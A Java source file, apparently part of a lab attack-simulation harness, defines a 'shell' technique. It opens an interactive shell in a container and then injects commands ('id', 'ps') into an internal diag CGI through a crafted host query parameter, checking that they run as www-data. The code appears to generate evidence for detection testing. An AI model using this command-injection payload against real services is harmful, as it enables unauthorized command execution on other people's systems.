package dev.vigil.lab.attack;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * {@code shell}: an interactive shell with a terminal in the source container ({@code runc exec
 * -t … /bin/sh -i}, as {@code kubectl exec -it} does) running a few commands; then a shell spawned
 * by a server: a request from the frontend injects a command into the api's diag CGI, so busybox
 * httpd runs the CGI script, which runs {@code sh -c "nslookup …;id;ps …;true"}. The effects:
 * {@code tty} in the shell names a pseudo-terminal; the injected {@code id} answers as the httpd's
 * user (www-data), and the injected {@code ps} shows the shell's parents up to httpd.
 */
final class Shell implements Technique {

    /** The commands typed into the interactive shell. */
    static final String TYPED = "tty\nid\nhostname\nls /\nexit\n";
    /** The injected value of {@code ?host=}: who am I, and the process table to show who spawned the shell. */
    static final String INJECTION = "www.example.test;id;ps -o pid,ppid,comm,args;true";

    @Override
    public void perform(AttackRun run) throws Exception {
        Source from = run.source();
        AttackRun.Ran shell = run.command(from, "/bin/sh", "-i").tty().input(TYPED).timeout(Duration.ofSeconds(20))
                .run("interactive shell with a terminal, typing: " + TYPED.strip().replace('\n', ';'));
        run.check(shell.stdout().contains("/dev/pts/") && shell.stdout().contains("uid="),
                "the interactive shell did not run with a terminal (no /dev/pts/ from tty): " + shell.stdout());
        run.evidence("the shell in " + from + " had a terminal (tty said " + firstLineWith(shell.stdout(), "/dev/pts/")
                + ") and ran id: " + firstLineWith(shell.stdout(), "uid="));

        Source client = run.pod("shop-web", "frontend", null);
        Source api = run.pod("shop-api", "api", null);
        String curl = run.toolkit().ensure(client, "curl");
        String url = "http://api.shop-api.svc.cluster.local:8080/cgi-bin/diag?host="
                + URLEncoder.encode(INJECTION, StandardCharsets.UTF_8).replace("+", "%20");
        AttackRun.Ran injected = run.command(client, curl, "-s", "-m", "10", url)
                .run("inject a command into " + api.pod().name() + "'s diag CGI: " + url);
        run.check(injected.stdout().contains("uid=33(www-data)") && chain(injected.stdout()).contains("httpd"),
                "the diag CGI of " + api.pod().name() + " did not run the injected id: " + injected.stdout());
        run.evidence("busybox httpd in " + api + " ran the injected commands through sh -c as "
                + firstLineWith(injected.stdout(), "uid=") + "; process chain: " + chain(injected.stdout()));
    }

    /**
     * The ancestry of the injected shell from busybox {@code ps -o pid,ppid,comm,args} output:
     * {@code pid comm args} of each process from the container's init down to {@code sh -c}.
     */
    static String chain(String ps) {
        java.util.Map<String, String[]> byPid = new java.util.HashMap<>();
        String shell = null;
        for (String line : ps.lines().toList()) {
            String[] f = line.strip().split("\\s+", 4);
            if (f.length == 4 && f[0].matches("\\d+")) {
                f[3] = f[3].replaceFirst("^\\{[^}]*} ", "");
                byPid.put(f[0], f);
                if (f[3].startsWith("sh -c nslookup")) {
                    shell = f[0];
                }
            }
        }
        java.util.List<String> chain = new java.util.ArrayList<>();
        for (String pid = shell; pid != null && byPid.containsKey(pid) && chain.size() < byPid.size(); pid = byPid.get(pid)[1]) {
            String[] f = byPid.get(pid);
            chain.addFirst(f[0] + " " + f[2] + " (" + f[3] + ")");
        }
        return chain.isEmpty() ? "(sh -c not in the process table)" : String.join(" -> ", chain);
    }

    static String firstLineWith(String text, String marker) {
        return text.lines().filter(l -> l.contains(marker)).map(String::strip).findFirst().orElse("");
    }
}
